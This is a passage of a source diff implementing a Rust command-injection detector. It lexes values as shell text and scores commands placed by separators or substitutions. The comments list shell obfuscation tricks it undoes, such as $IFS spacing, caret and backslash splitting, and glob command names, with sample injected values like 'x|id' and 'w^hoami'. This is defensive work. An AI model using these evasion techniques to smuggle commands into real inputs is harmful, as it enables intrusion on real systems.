@@ -1,25 +1,1732 @@
-//! Command injection (stub; being written).
+//! Command injection. The operating system is the signature list: a value is flagged when shell
+//! structure (a separator, a command substitution) puts a word at a command position and that
+//! word is a command on this machine's PATH or a shell builtin.
+//!
+//! Prose that merely contains `&` or `;` next to an English word that happens to be a command
+//! ("copy & paste", "time | date") is told apart by a score: what precedes the separator (nothing,
+//! a closing quote, an address, a number, or a prose word), how tightly it is written, what the
+//! arguments look like (flags, paths, redirections, expansions versus plain words) and signs of
+//! shell obfuscation. Flagged at [`THRESHOLD`].
+//!
+//! The detector does not undo percent or entity encodings (the engine hands it every decoded
+//! view); it does undo shell-level obfuscation: quotes and backslashes inside words, `$IFS` used
+//! as whitespace, empty expansions, `{cmd,arg}` brace lists, cmd.exe carets and globs at a
+//! command position. Because the value may be pasted inside a quoted string of the target
+//! command, it is also read as if it started inside single and double quotes.
 
+use crate::check::Check;
 use crate::finding::Finding;
 use std::collections::HashSet;
+use std::ffi::OsStr;
+use std::path::Path;
 
+#[path = "cmdi_builtins.rs"]
+mod builtins;
+
+/// Scores at or above this are findings.
+pub const THRESHOLD: f32 = 0.5;
+/// Bounds of the PATH scan done once at startup.
+const MAX_PATH_FILES: usize = 20_000;
+const MAX_PATH_DIRS: usize = 64;
+/// Lexer bounds: tokens per value (all nesting levels together), substitution nesting, and
+/// characters kept per word (longer words are never command names).
+const MAX_TOKENS: usize = 8_192;
+const MAX_DEPTH: u8 = 6;
+const MAX_WORD: usize = 256;
+/// Glob resolutions per value: each one scans the command set.
+const MAX_GLOBS: u32 = 4;
+
+/// Bytes without which no shell structure exists (`<(` and `>(` contain `(`).
+const SHELL_BYTES: [bool; 256] = {
+    let mut t = [false; 256];
+    let bytes = b";|&`$\n\r()";
+    let mut i = 0;
+    while i < bytes.len() {
+        t[bytes[i] as usize] = true;
+        i += 1;
+    }
+    t
+};
+
+/// Knows the commands of this machine; inspects one view of one value.
 pub struct CmdiDetector {
     commands: HashSet<String>,
+    /// Windows file systems and cmd.exe ignore case.
+    case_insensitive: bool,
+    /// Also know the cmd.exe builtins.
+    windows_builtins: bool,
 }
 
 impl CmdiDetector {
-    /// Commands found on this machine's PATH plus shell builtins.
+    /// Commands found on this machine's PATH (executable files, at most 20,000 entries looked
+    /// at) plus the shell builtins an attacker can use, plus a few cmd.exe builtins.
     pub fn from_env() -> Self {
-        CmdiDetector { commands: HashSet::new() }
+        let mut commands: HashSet<String> =
+            builtins::POSIX.iter().map(|s| (*s).to_string()).collect();
+        if let Some(path) = std::env::var_os("PATH") {
+            scan_path(&path, MAX_PATH_FILES, &mut commands);
+        }
+        CmdiDetector {
+            commands,
+            case_insensitive: cfg!(windows),
+            windows_builtins: true,
+        }
     }
 
     /// A detector that knows exactly these command names (tests).
     pub fn with_commands<I: IntoIterator<Item = S>, S: Into<String>>(names: I) -> Self {
-        CmdiDetector { commands: names.into_iter().map(Into::into).collect() }
+        CmdiDetector {
+            commands: names.into_iter().map(Into::into).collect(),
+            case_insensitive: false,
+            windows_builtins: false,
+        }
     }
 
-    pub fn inspect(&self, _text: &str) -> Option<Finding> {
-        let _ = &self.commands;
-        None
+    /// Whether `name` counts as a command (tests and diagnostics).
+    pub fn knows(&self, name: &str) -> bool {
+        self.known(name)
+    }
+
+    /// How many command names are known (startup banner).
+    pub fn command_count(&self) -> usize {
+        self.commands.len()
+    }
+
+    /// Inspects one view of a value.
+    pub fn inspect(&self, text: &str) -> Option<Finding> {
+        if !text.bytes().any(|b| SHELL_BYTES[b as usize]) {
+            return None;
+        }
+        let trimmed = text.trim();
+        // Markdown table rows ("| date | time |") use pipes as cell borders.
+        let table_row = trimmed.len() > 2
+            && trimmed.starts_with("| ")
+            && trimmed.ends_with(" |")
+            && !trimmed.contains([';', '&', '`', '$']);
+        let mut best: Option<Scored> = None;
+        for start in [None, Some(b'\''), Some(b'"')] {
+            if let Some(q) = start {
+                if !text.as_bytes().contains(&q) {
+                    continue;
+                }
+            }
+            let toks = Lexer::new(text).run(start);
+            let mut a = Analysis {
+                det: self,
+                src: text,
+                table_row,
+                globs: 0,
+                best: None,
+            };
+            a.list(&toks, Opener::ValueStart, true);
+            if let Some(mut s) = a.best {
+                if start.is_some() {
+                    s.evidence.push_str(" (value read as closing a quote)");
+                }
+                if best.as_ref().is_none_or(|b| s.score > b.score) {
+                    best = Some(s);
+                }
+            }
+        }
+        let best = best?;
+        (best.score >= THRESHOLD).then(|| Finding::new(Check::Cmdi, best.score, best.evidence))
+    }
+
+    fn known(&self, name: &str) -> bool {
+        if name.len() < 2 || name.len() > 64 {
+            return false;
+        }
+        if self.commands.contains(name) {
+            return true;
+        }
+        if !self.case_insensitive && !self.windows_builtins {
+            return false;
+        }
+        let lower = name.to_ascii_lowercase();
+        if self.windows_builtins && builtins::WINDOWS.contains(&lower.as_str()) {
+            return true;
+        }
+        if self.case_insensitive {
+            let stem = [".exe", ".com", ".bat", ".cmd"]
+                .iter()
+                .find_map(|ext| lower.strip_suffix(ext))
+                .unwrap_or(&lower);
+            return self.commands.contains(stem);
+        }
+        false
+    }
+
+    /// The alphabetically first known command matching a glob pattern.
+    fn glob(&self, pattern: &str) -> Option<String> {
+        self.commands
+            .iter()
+            .filter(|c| glob_match(pattern.as_bytes(), c.as_bytes()))
+            .min()
+            .cloned()
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// PATH scan
+
+fn scan_path(path: &OsStr, cap: usize, out: &mut HashSet<String>) {
+    let mut budget = cap;
+    let mut seen = HashSet::new();
+    for dir in std::env::split_paths(path).take(MAX_PATH_DIRS) {
+        if dir.as_os_str().is_empty() || !seen.insert(dir.clone()) {
+            continue;
+        }
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for entry in entries.flatten() {
+            if budget == 0 {
+                return;
+            }
+            budget -= 1;
+            let file_name = entry.file_name();
+            let Some(name) = file_name.to_str().and_then(command_name) else {
+                continue;
+            };
+            if !out.contains(&name) && is_executable(&entry.path()) {
+                out.insert(name);
+            }
+        }
+    }
+}
+
+/// The command name a PATH file provides, if it is a plausible one. One-letter names (`w`, `R`,
+/// `X`, `[`) are left out: they collide with initials in prose ("D&R").
+fn command_name(file: &str) -> Option<String> {
+    let name = if cfg!(windows) {
+        let lower = file.to_ascii_lowercase();
+        [".exe", ".com", ".bat", ".cmd"]
+            .iter()
+            .find_map(|e| lower.strip_suffix(e))?
+            .to_string()
+    } else {
+        file.to_string()
+    };
+    let ok = (2..=64).contains(&name.len())
+        && name.as_bytes()[0].is_ascii_alphanumeric()
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'));
+    ok.then_some(name)
+}
+
+#[cfg(unix)]
+fn is_executable(p: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(p).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
+}
+
+#[cfg(not(unix))]
+fn is_executable(p: &Path) -> bool {
+    std::fs::metadata(p).is_ok_and(|m| m.is_file())
+}
+
+/// `?` and `*` wildcards; one backtrack point, so O(len(p) * len(n)) at worst on short names.
+fn glob_match(p: &[u8], n: &[u8]) -> bool {
+    let (mut pi, mut ni) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while ni < n.len() {
+        match p.get(pi) {
+            Some(b'?') => {
+                pi += 1;
+                ni += 1;
+            }
+            Some(b'*') => {
+                star = Some((pi, ni));
+                pi += 1;
+            }
+            Some(&c) if c == n[ni] => {
+                pi += 1;
+                ni += 1;
+            }
+            _ => match star {
+                Some((sp, sn)) => {
+                    pi = sp + 1;
+                    ni = sn + 1;
+                    star = Some((sp, sn + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+    p[pi.min(p.len())..].iter().all(|&c| c == b'*')
+}
+
+// ---------------------------------------------------------------------------------------------
+// Lexer: shell words and operators, quotes and escapes removed, substitutions nested.
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum SepKind {
+    Semi,
+    DoubleSemi,
+    Pipe,
+    OrOr,
+    Amp,
+    AndAnd,
+    Newline,
+}
+
+impl SepKind {
+    fn as_str(self) -> &'static str {
+        match self {
+            SepKind::Semi => ";",
+            SepKind::DoubleSemi => ";;",
+            SepKind::Pipe => "|",
+            SepKind::OrOr => "||",
+            SepKind::Amp => "&",
+            SepKind::AndAnd => "&&",
+            SepKind::Newline => "newline",
+        }
+    }
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum SubstKind {
+    Dollar,
+    Backtick,
+    Process,
+}
+
+#[derive(Debug, Default)]
+struct Word {
+    /// Text with quotes, escapes, `$IFS` and empty expansions removed; `$NAME` kept literally.
+    text: String,
+    start: usize,
+    end: usize,
+    quote_opens: u8,
+    unquoted_chars: bool,
+    /// Backslash before an ordinary character (`c\at`).
+    escaped: bool,
+    /// cmd.exe caret between letters (`w^hoami`).
+    caret: bool,
+    /// `$@`, `$*`, `$1` or an empty `$()` between letters (`who$@ami`).
+    hidden_expansion: bool,
+    /// Contains `$NAME`, `${...}` or `$((...))`.
+    var: bool,
+    /// Separated from the previous word by `$IFS` rather than whitespace.
+    ifs: bool,
+    /// Began inside a quote the value did not open (the value closes it).
+    starts_in_quote: bool,
+    /// Ends with a quote that opens and never closes (`id'`): the target's own closing quote.
+    tail_quote: bool,
+    substs: Vec<Subst>,
+}
+
+impl Word {
+    fn split_by_quotes(&self) -> bool {
+        self.quote_opens >= 2 || (self.quote_opens == 1 && self.unquoted_chars && !self.tail_quote)
+    }
+}
+
+#[derive(Debug)]
+struct Subst {
+    kind: SubstKind,
+    toks: Vec<Tok>,
+}
+
+#[derive(Debug)]
+enum Tok {
+    Word(Word),
+    Sep {
+        kind: SepKind,
+        space_before: bool,
+        space_after: bool,
+    },
+    LParen,
+    RParen,
+    Redirect,
+    Comment,
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum End {
+    Eof,
+    Paren,
+    Backtick,
+}
+
+struct Lexer<'a> {
+    s: &'a str,
+    b: &'a [u8],
+    i: usize,
+    budget: usize,
+}
+
+impl<'a> Lexer<'a> {
+    fn new(s: &'a str) -> Self {
+        Lexer {
+            s,
+            b: s.as_bytes(),
+            i: 0,
+            budget: MAX_TOKENS,
+        }
+    }
+
+    fn run(mut self, start_quote: Option<u8>) -> Vec<Tok> {
+        self.list(End::Eof, 0, start_quote)
+    }
+
+    fn push(&mut self, toks: &mut Vec<Tok>, t: Tok) {
+        if self.budget > 0 {
+            self.budget -= 1;
+            toks.push(t);
+        }
+    }
+
+    fn at(&self, i: usize) -> Option<u8> {
+        self.b.get(i).copied()
+    }
+
+    fn list(&mut self, end: End, depth: u8, mut start_quote: Option<u8>) -> Vec<Tok> {
+        let mut toks = Vec::new();
+        let mut word_start = true; // the next character would start a word
+        let mut space = true; // whitespace (or the start) right before
+        let mut ifs = false;
+        while self.budget > 0 {
+            let before = self.i;
+            if let Some(q) = start_quote.take() {
+                let w = self.word(end, depth, Some(q), false);
+                self.push(&mut toks, Tok::Word(w));
+                word_start = false;
+                space = false;
+                continue;
+            }
+            let Some(c) = self.at(self.i) else { break };
+            let next = self.at(self.i + 1);
+            match c {
+                b' ' | b'\t' | 0x0b | 0x0c => {
+                    self.i += 1;
+                    space = true;
+                    word_start = true;
+                }
+                b'\r' if next == Some(b'\n') => self.i += 1,
+                b'\\' if next == Some(b'\n') => self.i += 2,
+                b'\n' | b'\r' => {
+                    self.i += 1;
+                    self.sep(&mut toks, SepKind::Newline, space);
+                    space = true;
+                    word_start = true;
+                }
+                b'#' if word_start => {
+                    while self.at(self.i).is_some_and(|c| c != b'\n' && c != b'\r') {
+                        self.i += 1;
+                    }
+                    self.push(&mut toks, Tok::Comment);
+                }
+                b';' => {
+                    let kind = if next == Some(b';') {
+                        SepKind::DoubleSemi
+                    } else {
+                        SepKind::Semi
+                    };
+                    self.i += if kind == SepKind::DoubleSemi { 2 } else { 1 };
+                    self.sep(&mut toks, kind, space);
+                    (space, word_start) = (false, true);
+                }
+                b'&' if entity_len(self.b, self.i).is_none() => {
+                    if next == Some(b'&') {
+                        self.i += 2;
+                        self.sep(&mut toks, SepKind::AndAnd, space);
+                    } else if next == Some(b'>') {
+                        self.i += 2;
+                        if self.at(self.i) == Some(b'>') {
+                            self.i += 1;
+                        }
+                        self.push(&mut toks, Tok::Redirect);
+                    } else {
+                        self.i += 1;
+                        self.sep(&mut toks, SepKind::Amp, space);
+                    }
+                    (space, word_start) = (false, true);
+                }
+                b'|' => {
+                    let kind = if next == Some(b'|') {
+                        SepKind::OrOr
+                    } else {
+                        SepKind::Pipe
+                    };
+                    self.i += if matches!(next, Some(b'|' | b'&')) {
+                        2
+                    } else {
+                        1
+                    };
+                    self.sep(&mut toks, kind, space);
+                    (space, word_start) = (false, true);
+                }
+                b'(' => {
+                    self.i += 1;
+                    self.push(&mut toks, Tok::LParen);
+                    (space, word_start) = (false, true);
+                }
+                b')' => {
+                    self.i += 1;
+                    if end == End::Paren {
+                        return toks;
+                    }
+                    self.push(&mut toks, Tok::RParen);
+                    (space, word_start) = (false, true);
+                }
+                b'`' if end == End::Backtick => {
+                    self.i += 1;
+                    return toks;
+                }
+                b'<' | b'>' if next == Some(b'(') && depth < MAX_DEPTH => {
+                    let start = self.i;
+                    self.i += 2;
+                    let inner = self.list(End::Paren, depth + 1, None);
+                    let w = Word {
+                        start,
+                        end: self.i,
+                        substs: vec![Subst {
+                            kind: SubstKind::Process,
+                            toks: inner,
+                        }],
+                        ..Word::default()
+                    };
+                    self.push(&mut toks, Tok::Word(w));
+                    (space, word_start) = (false, false);
+                }
+                b'<' | b'>' => {
+                    while matches!(self.at(self.i), Some(b'<' | b'>' | b'|')) {
+                        self.i += 1;
+                    }
+                    if self.at(self.i) == Some(b'&') {
+                        self.i += 1;
+                        while self
+                            .at(self.i)
+                            .is_some_and(|c| c.is_ascii_digit() || c == b'-')
+                        {
+                            self.i += 1;
+                        }
+                    }
+                    self.push(&mut toks, Tok::Redirect);
+                    (space, word_start) = (false, true);
+                }
+                b'0'..=b'9' if word_start && matches!(next, Some(b'<' | b'>')) => self.i += 1,
+                b'$' if ifs_len(self.b, self.i).is_some() => {
+                    self.i += ifs_len(self.b, self.i).unwrap_or(1);
+                    (space, word_start, ifs) = (true, true, true);
+                }
+                _ => {
+                    let w = self.word(end, depth, None, ifs);
+                    self.push(&mut toks, Tok::Word(w));
+                    (space, word_start, ifs) = (false, false, false);
+                }
+            }
+            if self.i == before {
+                // Never stall on an unexpected byte.
+                self.i += self
+                    .s
+                    .get(self.i..)
+                    .and_then(|r| r.chars().next())
+                    .map_or(1, char::len_utf8);
+            }
+        }
+        toks
+    }
+
+    fn sep(&mut self, toks: &mut Vec<Tok>, kind: SepKind, space_before: bool) {
+        let space_after = matches!(self.at(self.i), Some(b' ' | b'\t'));
+        self.push(
+            toks,
+            Tok::Sep {
+                kind,
+                space_before,
+                space_after,
+            },
+        );
+    }
+
+    fn take_char(&mut self, w: &mut Word) {
+        match self.s.get(self.i..).and_then(|r| r.chars().next()) {
+            Some(ch) => {
+                if w.text.len() < MAX_WORD {
+                    w.text.push(ch);
+                }
+                self.i += ch.len_utf8();
+            }
+            None => self.i += 1,
+        }
+    }
+
+    fn word(&mut self, end: End, depth: u8, start_quote: Option<u8>, ifs: bool) -> Word {
+        let mut w = Word {
+            start: self.i,
+            ifs,
+            ..Word::default()
+        };
+        let mut quote = start_quote;
+        let mut text_at_open = 0;
+        let mut hidden_pending = false;
+        if quote.is_some() {
+            w.starts_in_quote = true;
+            w.quote_opens = 1;
+        }
+        loop {
+            let Some(c) = self.at(self.i) else {
+                if quote.is_some() && !w.starts_in_quote && w.text.len() == text_at_open {
+                    w.tail_quote = true;
+                }
+                break;
+            };
+            let len_before = w.text.len();
+            match quote {
+                Some(b'\'') => {
+                    if c == b'\'' {
+                        quote = None;
+                        self.i += 1;
+                    } else {
+                        self.take_char(&mut w);
+                    }
+                }
+                Some(_) => match c {
+                    b'"' => {
+                        quote = None;
+                        self.i += 1;
+                    }
+                    b'\\' => {
+                        self.i += 1;
+                        if self.at(self.i) == Some(b'\n') {
+                            self.i += 1;
+                        } else if !matches!(self.at(self.i), Some(b'$' | b'`' | b'"' | b'\\')) {
+                            w.text.push('\\');
+                        }
+                    }
+                    b'$' => self.dollar(&mut w, depth, true, &mut hidden_pending),
+                    b'`' if end == End::Backtick => break,
+                    b'`' => self.backtick(&mut w, depth),
+                    _ => self.take_char(&mut w),
+                },
+                None => match c {
+                    b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | b';' | b'|' | b'(' | b')'
+                    | b'<' | b'>' => break,
+                    b'&' => match entity_len(self.b, self.i) {
+                        Some(n) => {
+                            for _ in 0..n {
+                                self.take_char(&mut w);
+                            }
+                            w.unquoted_chars = true;
+                        }
+                        None => break,
+                    },
+                    b'\'' | b'"' => {
+                        quote = Some(c);
+                        w.quote_opens = w.quote_opens.saturating_add(1);
+                        text_at_open = w.text.len();
+                        self.i += 1;
+                    }
+                    b'\\' => {
+                        self.i += 1;
+                        match self.at(self.i) {
+                            Some(b'\n') => self.i += 1,
+                            Some(_) => {
+                                w.escaped = true;
+                                w.unquoted_chars = true;
+                                self.take_char(&mut w);
+                            }
+                            None => {}
+                        }
+                    }
+                    b'^' if self.i > w.start
+                        && self.b[self.i - 1].is_ascii_alphanumeric()
+                        && self
+                            .at(self.i + 1)
+                            .is_some_and(|c| c.is_ascii_alphanumeric()) =>
+                    {
+                        w.caret = true;
+                        self.i += 1;
+                    }
+                    b'$' if ifs_len(self.b, self.i).is_some() => break,
+                    b'$' => self.dollar(&mut w, depth, false, &mut hidden_pending),
+                    b'`' if end == End::Backtick => break,
+                    b'`' => self.backtick(&mut w, depth),
+                    _ => {
+                        w.unquoted_chars = true;
+                        self.take_char(&mut w);
+                    }
+                },
+            }
+            if hidden_pending && w.text.len() > len_before && len_before > 0 {
+                w.hidden_expansion = true;
+            }
+        }
+        if !w.text.is_empty() && w.substs.iter().any(|s| s.toks.is_empty()) {
+            w.hidden_expansion = true;
+        }
+        w.end = self.i;
+        w
+    }
+
+    fn backtick(&mut self, w: &mut Word, depth: u8) {
+        if depth >= MAX_DEPTH {
+            self.take_char(w);
+            return;
+        }
+        self.i += 1;
+        let toks = self.list(End::Backtick, depth + 1, None);
+        w.substs.push(Subst {
+            kind: SubstKind::Backtick,
+            toks,
+        });
+    }
+
+    /// At a `$`: substitution, arithmetic, parameter expansion, or a literal dollar.
+    fn dollar(&mut self, w: &mut Word, depth: u8, in_dquote: bool, hidden_pending: &mut bool) {
+        match self.at(self.i + 1) {
+            Some(b'(') if self.at(self.i + 2) == Some(b'(') => {
+                // Arithmetic: no commands inside; skip to the balancing "))".
+                self.i += 3;
+                let mut open = 2usize;
+                while let Some(c) = self.at(self.i) {
+                    self.i += 1;
+                    match c {
+                        b'(' => open += 1,
+                        b')' => {
+                            open -= 1;
+                            if open == 0 {
+                                break;
+                            }
+                        }
+                        _ => {}
+                    }
+                }
+                w.var = true;
+            }
+            Some(b'(') if depth < MAX_DEPTH => {
+                self.i += 2;
+                let toks = self.list(End::Paren, depth + 1, None);
+                w.substs.push(Subst {
+                    kind: SubstKind::Dollar,
+                    toks,
+                });
+            }
+            Some(b'{') => {
+                let close = self.b[self.i..].iter().take(64).position(|&c| c == b'}');
+                match close {
+                    Some(p) => {
+                        let inner = &self.s[self.i + 2..self.i + p];
+                        if w.text.len() < MAX_WORD {
+                            w.text.push('$');
+                            w.text.push_str(inner);
+                        }
+                        w.var = true;
+                        self.i += p + 1;
+                    }
+                    None => self.take_char(w),
+                }
+            }
+            Some(b'@' | b'*' | b'0'..=b'9') => {
+                self.i += 2;
+                *hidden_pending = true;
+            }
+            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
+                let start = self.i;
+                self.i += 1;
+                while self
+                    .at(self.i)
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
+                {
+                    self.i += 1;
+                }
+                if w.text.len() < MAX_WORD {
+                    w.text.push_str(&self.s[start..self.i]);
+                }
+                w.var = true;
+            }
+            // $'...' and $"..." are quotes with a prefix.
+            Some(b'\'' | b'"') if !in_dquote => self.i += 1,
+            _ => self.take_char(w),
+        }
+    }
+}
+
+/// Length of `$IFS`, `${IFS}` or `${IFS<modifier>}` at `i`, used by attackers as whitespace.
+fn ifs_len(b: &[u8], i: usize) -> Option<usize> {
+    let r = b.get(i..)?;
+    let ident = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_');
+    if r.starts_with(b"${IFS") && !ident(r.get(5)) {
+        let close = r.iter().take(24).position(|&c| c == b'}')?;
+        return Some(close + 1);
+    }
+    if r.starts_with(b"$IFS") && !ident(r.get(4)) {
+        return Some(4);
+    }
+    None
+}
+
+/// Length of an HTML entity (`&amp;`, `&#39;`, `&#x27;`) at `i`: its `&` is not a separator in
+/// the raw view (the decoded view is inspected separately).
+fn entity_len(b: &[u8], i: usize) -> Option<usize> {
+    let r = b.get(i + 1..)?;
+    let (body, need) = match r.first()? {
+        b'#' if matches!(r.get(1), Some(b'x' | b'X')) => (2, 1),
+        b'#' => (1, 1),
+        c if c.is_ascii_alphabetic() => (0, 2),
+        _ => return None,
+    };
+    let hex = body == 2;
+    let run = r[body..]
+        .iter()
+        .take(12)
+        .take_while(|c| {
+            if body == 0 {
+                c.is_ascii_alphanumeric()
+            } else if hex {
+                c.is_ascii_hexdigit()
+            } else {
+                c.is_ascii_digit()
+            }
+        })
+        .count();
+    (run >= need && run <= 10 && r.get(body + run) == Some(&b';')).then_some(1 + body + run + 1)
+}
+
+// ---------------------------------------------------------------------------------------------
+// Analysis: command positions, candidates and their scores.
+
+/// What precedes a separator.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Prefix {
+    Start,
+    Quote,
+    Host,
+    Single,
+    Number,
+    Other,
+    Prose,
+    UrlParam,
+}
+
+impl Prefix {
+    fn base(self) -> f32 {
+        match self {
+            Prefix::Start => 0.5,
+            Prefix::Quote => 0.45,
+            Prefix::Host | Prefix::Single => 0.4,
+            Prefix::Number | Prefix::Other => 0.3,
+            Prefix::Prose => 0.15,
+            Prefix::UrlParam => 0.1,
+        }
+    }
+
+    fn describe(self) -> &'static str {
+        match self {
+            Prefix::Start => "at the start of the value",
+            Prefix::Quote => "after a closing quote",
+            Prefix::Host => "after an address",
+            Prefix::Single => "after a one-character value",
+            Prefix::Number => "after a number",
+            Prefix::Other => "after a non-prose token",
+            Prefix::Prose => "after a word",
+            Prefix::UrlParam => "after a query parameter",
+        }
+    }
+}
+
+/// What put a word at a command position.
+#[derive(Clone, Copy, Debug)]
+enum Opener {
+    ValueStart,
+    Sep {
+        kind: SepKind,
+        prefix: Prefix,
+        tight: bool,
+    },
+    Subst {
+        kind: SubstKind,
+        weak: bool,
+    },
+}
+
+/// How the command word named its command.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum How {
+    Plain,
+    AbsPath,
+    Obfuscated(&'static str),
+    Glob,
+    Brace,
+    Variable,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum ArgKind {
+    Flag,
+    Path,
+    Expansion,
+    Glob,
+    Number,
+    Host,
+    File,
+    Plain,
+    Other,
+}
+
+#[derive(Debug)]
+struct Scored {
+    score: f32,
+    evidence: String,
+}
+
+struct Cand {
+    scored: Scored,
+    sep: Option<usize>,
+    seg_end: usize,
+}
+
+struct Analysis<'d, 'a> {
+    det: &'d CmdiDetector,
+    src: &'a str,
+    table_row: bool,
+    globs: u32,
+    best: Option<Scored>,
+}
+
+impl Analysis<'_, '_> {
+    fn list(&mut self, toks: &[Tok], start: Opener, top: bool) {
+        let mut cands: Vec<Cand> = Vec::new();
+        let mut opener: Option<(Opener, Option<usize>)> = Some((start, None));
+        let mut seg_known = false;
+        let mut i = 0;
+        while i < toks.len() {
+            match &toks[i] {
+                Tok::Sep {
+                    kind,
+                    space_before,
+                    space_after,
+                } => {
+                    let prefix = self.prefix(toks, i, *kind);
+                    let tight = match kind {
+                        SepKind::Semi | SepKind::DoubleSemi => !space_after,
+                        SepKind::Newline => false,
+                        _ => !(*space_before && *space_after),
+                    };
+                    opener = Some((
+                        Opener::Sep {
+                            kind: *kind,
+                            prefix,
+                            tight,
+                        },
+                        Some(i),
+                    ));
+                    seg_known = false;
+                }
+                // At a command position "(" opens a subshell and the position carries on;
+                // elsewhere it is a call or a parenthesis in prose.
+                Tok::LParen | Tok::Redirect | Tok::Comment => {}
+                Tok::RParen => opener = None,
+                Tok::Word(w) => {
+                    let after_sep =
+                        matches!(opener, Some((Opener::Sep { .. } | Opener::Subst { .. }, _)));
+                    let at_cmd = opener.is_some();
+                    if let Some((op, sep)) = opener.take() {
+                        if is_keyword(&w.text) || is_assignment(&w.text) {
+                            opener = Some((op, sep));
+                        } else if let Some(c) = self.candidate(toks, i, op, sep) {
+                            seg_known = true;
+                            cands.push(c);
+                        }
+                    }
+                    // A backtick span alone between spaces in prose is a markdown code span.
+                    let glued = !w.text.is_empty() || w.substs.len() > 1;
+                    let whole_value = top
+                        && at_cmd
+                        && toks.iter().filter(|t| matches!(t, Tok::Word(_))).count() == 1;
+                    let shell_like = glued || seg_known || whole_value || after_sep;
+                    for s in &w.substs {
+                        let weak = s.kind == SubstKind::Backtick && !shell_like;
+                        self.list(&s.toks, Opener::Subst { kind: s.kind, weak }, false);
+                    }
+                }
+            }
+            i += 1;
+        }
+        for k in 0..cands.len() {
+            let next_follows = cands
+                .get(k + 1)
+                .is_some_and(|n| n.sep == Some(cands[k].seg_end));
+            if next_follows {
+                cands[k].scored.score += 0.1;
+                cands[k]
+                    .scored
+                    .evidence
+                    .push_str(", followed by another command");
+            }
+        }
+        for c in cands {
+            let mut s = c.scored;
+            s.score = (s.score.clamp(0.0, 1.0) * 100.0).round() / 100.0;
+            if self.best.as_ref().is_none_or(|b| s.score > b.score) {
+                self.best = Some(s);
+            }
+        }
+    }
+
+    fn prefix(&self, toks: &[Tok], i: usize, kind: SepKind) -> Prefix {
+        let glued = matches!(
+            toks[i],
+            Tok::Sep {
+                space_before: false,
+                ..
+            }
+        );
+        let Some(prev) = i.checked_sub(1).and_then(|j| toks.get(j)) else {
+            return Prefix::Start;
+        };
+        match prev {
+            Tok::Sep { .. } | Tok::LParen | Tok::Redirect => Prefix::Start,
+            Tok::RParen if glued => Prefix::Quote,
+            Tok::RParen | Tok::Comment => Prefix::Other,
+            Tok::Word(w) => self.classify_prefix(w, glued, kind),
+        }
+    }
+
+    fn classify_prefix(&self, w: &Word, glued: bool, kind: SepKind) -> Prefix {
+        let raw = self.src.get(w.start..w.end).unwrap_or("");
+        if (raw.ends_with('\'') || raw.ends_with('"')) && (glued || w.starts_in_quote) {
+            return Prefix::Quote;
+        }
+        if w.starts_in_quote && w.text.is_empty() {
+            return Prefix::Quote;
+        }
+        let mut t = w.text.as_str();
+        if let Some(p) = t.rfind('=') {
+            if kind == SepKind::Amp {
+                return Prefix::UrlParam;
+            }
+            t = &t[p + 1..];
+            if t.is_empty() {
+                return Prefix::Single;
+            }
+        }
+        if is_host(t) {
+            return Prefix::Host;
+        }
+        let mut chars = t.chars();
+        if let (Some(c), None) = (chars.next(), chars.next()) {
+            // "x|id" is shell; "R&D" and "Q&A" are initials.
+            return if c.is_ascii_lowercase() || !c.is_alphanumeric() {
+                Prefix::Single
+            } else {
+                Prefix::Prose
+            };
+        }
+        if is_number(t) {
+            Prefix::Number
+        } else if is_prose_word(t) {
+            Prefix::Prose
+        } else {
+            Prefix::Other
+        }
+    }
+
+    fn candidate(
+        &mut self,
+        toks: &[Tok],
+        i: usize,
+        op: Opener,
+        sep: Option<usize>,
+    ) -> Option<Cand> {
+        let seg_end = toks[i..]
+            .iter()
+            .position(|t| matches!(t, Tok::Sep { .. } | Tok::RParen))
+            .map_or(toks.len(), |p| i + p);
+        let (ci, name, how, wrapper) = self.resolve_at(toks, i, seg_end)?;
+        // `sort(x)`, `file = open(p)`: a call or assignment in another language.
+        match toks.get(ci + 1) {
+            Some(Tok::LParen) => return None,
+            Some(Tok::Word(a)) if ci + 1 < seg_end && is_code_operator(&a.text) => return None,
+            _ => {}
+        }
+        let Tok::Word(cmd) = &toks[ci] else {
+            return None;
+        };
+
+        let mut why: Vec<String> = Vec::new();
+        let ctx = match op {
+            Opener::ValueStart => {
+                why.push("command at the start of the value".into());
+                0.15
+            }
+            Opener::Sep {
+                kind,
+                prefix,
+                tight,
+            } => {
+                why.push(format!(
+                    "separator '{}' {}",
+                    kind.as_str(),
+                    prefix.describe()
+                ));
+                let mut s = prefix.base();
+                if tight {
+                    s += 0.1;
+                }
+                if matches!(kind, SepKind::AndAnd | SepKind::OrOr) {
+                    s += 0.05;
+                }
+                if kind == SepKind::Newline && prefix != Prefix::Start {
+                    s -= 0.1;
+                }
+                s
+            }
+            Opener::Subst { kind, weak } => {
+                why.push(
+                    match kind {
+                        SubstKind::Dollar => "command substitution $(...)",
+                        SubstKind::Backtick if weak => "backtick span in prose",
+                        SubstKind::Backtick => "backtick substitution",
+                        SubstKind::Process => "process substitution",
+                    }
+                    .into(),
+                );
+                match (kind, weak) {
+                    (_, true) => 0.3,
+                    (SubstKind::Backtick, false) => 0.7,
+                    _ => 0.75,
+                }
+            }
+        };
+        let mut score = ctx;
+        let mut cmd_desc = match how {
+            How::Plain => format!("command '{name}'"),
+            How::AbsPath => {
+                score += 0.25;
+                format!("command '{name}' by absolute path")
+            }
+            How::Obfuscated(what) => {
+                score += 0.35;
+                format!("command '{name}' obfuscated with {what}")
+            }
+            How::Glob => {
+                score += 0.35;
